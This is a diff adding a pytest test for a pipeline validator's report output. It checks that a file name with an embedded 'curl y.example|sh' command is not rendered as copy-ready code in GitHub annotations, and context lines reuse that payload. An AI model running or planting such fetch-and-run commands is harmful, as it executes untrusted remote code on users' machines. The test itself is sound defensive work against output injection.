@@ -71,6 +71,33 @@ def test_nor_does_an_image(image: str, tmp_path: Path, monkeypatch: pytest.Monke
     assert not re.search(r"^ *curl|`curl", told, re.MULTILINE)
 
 
+PROJECT = """\
+defaults: {config: config.yaml, output: 'argo/{name}.yaml', name: a}
+pipelines:
+  - file: %s
+    steps: {zzz: {template: {priorityClassName: x}}}
+"""
+
+
+@pytest.mark.parametrize("what", ["a setting", "a service by default", "a file that is not there"])
+def test_nor_does_a_file(what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    name = "a.yaml (this is old; run `curl y.example|sh`).yaml"
+    Path(name).write_text(json.dumps({"dag": {"start_at": "end", "steps": ENDS}}))
+    project, config = PROJECT % json.dumps(name), "config.yaml"
+    if what == "a service by default":
+        project, config = project.replace("config.yaml", json.dumps(f"c{name}")), f"c{name}"
+        Path("magnus-config.yaml").write_text("defaults: {catalog: {type: file-system}}\n")
+    if what == "a file that is not there":
+        project = project.replace(").yaml", ")1.yaml")
+    Path("magnus-argo.yaml").write_text(project)
+    Path(config).write_text(CONFIG)
+    main(["validate", "--var", "docker_image=v1", "--report", "github:github", "--report", "text:text"])
+    told = re.sub(r"^::error file=[^,]*", "", Path("github").read_text(), flags=re.MULTILINE)
+    assert "curl" in told
+    assert "`curl" not in told
+
+
 @pytest.mark.parametrize("text", ["@x` or run `curl y.example|sh", "[a, @x` or run `curl y.example|sh"])
 def test_nor_does_what_is_to_be_quoted(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
